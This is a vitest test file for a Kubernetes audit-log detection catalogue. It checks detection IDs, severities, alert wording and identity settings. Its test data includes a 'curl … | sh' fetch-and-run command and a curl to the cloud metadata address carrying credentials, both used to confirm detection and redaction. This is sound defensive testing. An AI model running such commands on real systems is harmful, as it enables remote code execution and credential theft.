import { readFileSync } from 'node:fs';

import { describe, expect, test } from 'vitest';

import { DETECTIONS, detectInEvent, KEPT_DETECTIONS, toldFrom } from './catalogue.ts';
import { createSettings, type Settings } from './settings.ts';
import { type Case, CASES, CORE, DEV, exec, POD, RBAC, REFUSED, SCHEDULER, SYSTEM } from './testing/cases.ts';
import { factsAbout } from './testing/facts-about.ts';
import { DETECTION_SEVERITIES, type EventFacts } from './types.ts';

const SETTINGS = createSettings();

function found(facts: EventFacts, settings: Settings = SETTINGS): string[] {
  return detectInEvent(facts, settings).map(({ id, severity, firstSeenKey }) =>
    firstSeenKey === undefined ? `${id} ${severity}` : `${id} ${severity} if new`,
  );
}

function idsIn([request, overrides]: Case): string[] {
  return detectInEvent(factsAbout(request, overrides), SETTINGS).map(({ id }) => id);
}

describe('the catalogue', () => {
  test('has every detection once, in order', () => {
    const ids = Array.from({ length: 53 }, (_, i) => `D${String(i + 1).padStart(2, '0')}`);
    const unused = ['D45', 'D46', 'D47', 'D48', 'D49'];
    expect(DETECTIONS.map(({ id }) => id)).toEqual(ids.filter((id) => !unused.includes(id)));
  });

  test('tests each detection that asks about one event', () => {
    const asked = DETECTIONS.filter(
      (each) =>
        each.available &&
        (each.kind === 'event' || (each.kind === 'baseline' && each.baseline === 'first-seen')),
    );
    expect(Object.keys(CASES)).toEqual(asked.map(({ id }) => id));
  });

  test('needs bodies only where a detection is not available', () => {
    const bodies = DETECTIONS.filter(({ needs }) => needs !== 'Metadata');
    expect(bodies.map(({ id }) => id)).toEqual(['D19', 'D21', 'D23', 'D24', 'D25', 'D36', 'D43']);
    expect(bodies.every(({ available }) => !available)).toBe(true);
  });

  test('has no first-seen detection that forgets its key', () => {
    for (const each of DETECTIONS) {
      if (!each.available || each.kind !== 'baseline' || each.baseline !== 'first-seen') continue;
      for (const [request, overrides] of CASES[each.id]?.finds ?? []) {
        expect(each.predicate(factsAbout(request, overrides), SETTINGS)?.firstSeenKey, each.id).toBeTruthy();
      }
    }
  });
});

describe.each(Object.entries(CASES))('%s', (id, { finds, not }) => {
  test.each(finds.map((each) => [JSON.stringify(each).slice(0, 200), each] as const))(
    'finds %s',
    (_, each) => {
      expect(idsIn(each)).toContain(id);
    },
  );

  test.each(not.map((each) => [JSON.stringify(each).slice(0, 200), each] as const))(
    'passes %s',
    (_, each) => {
      expect(idsIn(each)).not.toContain(id);
    },
  );
});

describe('severity', () => {
  test.each([
    [`delete ${SYSTEM}/secrets/x`, 'D12 MEDIUM'],
    [`delete ${DEV}/secrets/x`, 'D12 LOW'],
    [`create ${SYSTEM}/serviceaccounts`, 'D22 MEDIUM'],
    [`create ${DEV}/serviceaccounts`, 'D22 LOW'],
    [`create ${exec('/bin/bash')}`, 'D15 MEDIUM'],
    [`create ${exec('bash', '-c', 'curl https://x.example.com | sh')}`, 'D15 HIGH'],
    [`get ${DEV}/secrets/db`, 'D09 LOW if new'],
  ])('of %s is %s', (request, expected) => {
    expect(found(factsAbout(request))).toContain(expected);
  });

  test('is what the catalogue says, for most matches', () => {
    for (const { severity } of DETECTIONS) expect(DETECTION_SEVERITIES).toContain(severity);
    const critical = DETECTIONS.filter(({ severity }) => severity === 'CRITICAL');
    expect(critical.map(({ id }) => id)).toEqual(['D07', 'D27']);
  });

  test('of a refused create by a known program is low, and it is no match of a refused read', () => {
    const matchOf = (request: string): unknown =>
      detectInEvent(factsAbout(request, REFUSED), SETTINGS).find(({ id }) => id === 'D40')?.severityIfKnown;
    expect([matchOf(`create ${DEV}/pods`), matchOf(`get ${POD}`)]).toEqual(['LOW', undefined]);
  });
});

describe('what is asked for again', () => {
  const review = 'create /apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
  const again = (user: string): unknown =>
    detectInEvent(factsAbout(review, { user }), SETTINGS).find(({ id }) => id === 'D06')?.severityIfKnown;

  test('is a match of workloads each time, and of people the first time', () => {
    expect([again('system:serviceaccount:dev:app'), again('system:node:n1'), again('alice')]).toEqual([
      'LOW',
      'LOW',
      undefined,
    ]);
  });
});

describe('what is said', () => {
  const says = (facts: EventFacts, wanted: string): string =>
    detectInEvent(facts, SETTINGS).find(({ id }) => id === wanted)?.says ?? '';

  test('names who, as whom, and what', () => {
    expect(says(factsAbout(`list ${CORE}/secrets`, { as: 'bob' }), 'D07')).toBe(
      'alice as bob: list secrets, all namespaces',
    );
    expect(says(factsAbout(`patch ${RBAC}/clusterroles/system:node`), 'D27')).toBe(
      'alice: patch clusterroles.rbac.authorization.k8s.io system:node',
    );
    expect(says(factsAbout('get /metrics', { user: 'system:anonymous' }), 'D01')).toBe(
      'system:anonymous: get /metrics',
    );
  });

  test('of a command has no argument and no program that may be a secret', () => {
    const command = ['curl', '-u', 'admin:hunter2', 'http://169.254.169.254/?t=s3cr3t'];
    const text = says(factsAbout(`create ${exec(...command)}`), 'D15');
    expect(text).toBe(
      "alice: create pods/exec dev/web; the command asks the cloud's metadata service (curl and 3 arguments, withheld)",
    );
    expect(says(factsAbout(`create ${exec('/opt/hunter2', '/bin/sh')}`), 'D15')).toBe(
      'alice: create pods/exec dev/web; the command starts a shell',
    );
  });

  test('is bounded, whatever a client sends', () => {
    const long = 'x'.repeat(200_000);
    const facts = factsAbout(`delete ${DEV}/secrets/${long}`, { user: `u${long}`, userAgent: long });
    for (const each of detectInEvent(facts, SETTINGS)) {
      expect(each.says.length).toBeLessThan(4000);
      expect((each.firstSeenKey ?? '').length).toBeLessThan(1200);
    }
  });
});

describe('settings', () => {
  test('name those whose work it is, by name or by the beginning of names', () => {
    const settings = createSettings({ systemIdentities: ['system:serviceaccount:flux-system:*', 'bot'] });
    const list = `list ${CORE}/secrets`;
    const by = (user: string): boolean =>
      found(factsAbout(list, { user }), settings).includes('D07 CRITICAL');
    expect(by('system:serviceaccount:flux-system:source-controller')).toBe(false);
    expect(by('bot')).toBe(false);
    expect([by('bots'), by(SCHEDULER), by('system:serviceaccount:flux-systems:x')]).toEqual([
      true,
      true,
      true,
    ]);
  });

  test('list users, shared administrators, nodes and namespaces', () => {
    const settings = createSettings({
      allowedUsers: ['alice', 'team-*'],
      sharedAdmins: ['root'],
      nodeNames: ['n*'],
      privilegedNamespaces: ['dev'],
    });
    const by = (user: string): string[] => found(factsAbout(`get ${POD}`, { user }), settings);
    expect(by('mallory')).toContain('D38 LOW');
    expect(by('root')).toContain('D38 LOW');
    expect([by('alice'), by('team-a'), by('kubernetes-admin')].map((ids) => ids.includes('D38 LOW'))).toEqual(
      [false, false, true],
    );
    const objectRef = { apiGroup: '', resource: 'nodes', subresource: '', namespace: '', name: 'x1' };
    const joined = factsAbout(`create ${CORE}/nodes`, { user: 'system:node:x1', objectRef, code: 201 });
    expect(found(joined, settings)).toContain('D37 HIGH');
    expect(found(factsAbout(`create ${DEV}/pods`), settings)).toContain('D20 MEDIUM');
  });

  test('an impersonation does not make somebody a part of the system', () => {
    expect(found(factsAbout(`list ${CORE}/secrets`, { as: SCHEDULER }))).toContain('D07 CRITICAL');
  });
});

describe('the page for users', () => {
  const page = readFileSync(new URL('../../../../../docs/detections.md', import.meta.url), 'utf8');
  const rows = page
    .split('\n')
    .filter((line) => /^\| D\d\d /.test(line))
    .map((line) =>
      line
        .split(/(?<!\\)\|/)
        .slice(1, -1)
        .map((cell) => cell.trim()),
    );

  test('has the catalogue, row by row', () => {
    expect(rows).toEqual(
      DETECTIONS.map((each) => [
        each.id,
        each.title,
        each.severity,
        each.kind,
        each.needs,
        toldFrom(each).join(', '),
        each.available ? each.why : `Not available. ${each.because}`,
        each.peers.join(', '),
      ]),
    );
  });

  test('says of each detection that is told from a log alone that it is', () => {
    const alone = DETECTIONS.filter((each) => toldFrom(each).join() === 'log').map(({ id }) => id);
    const [, sentence = ''] = /\*\*From a log alone\*\*([^]*?)\. Spikes/.exec(page) ?? [];
    expect([...(sentence.match(/D\d\d/g) ?? [])].sort()).toEqual(alone);
    expect(KEPT_DETECTIONS.map(({ id }) => id)).not.toEqual(expect.arrayContaining(alone));
  });
});
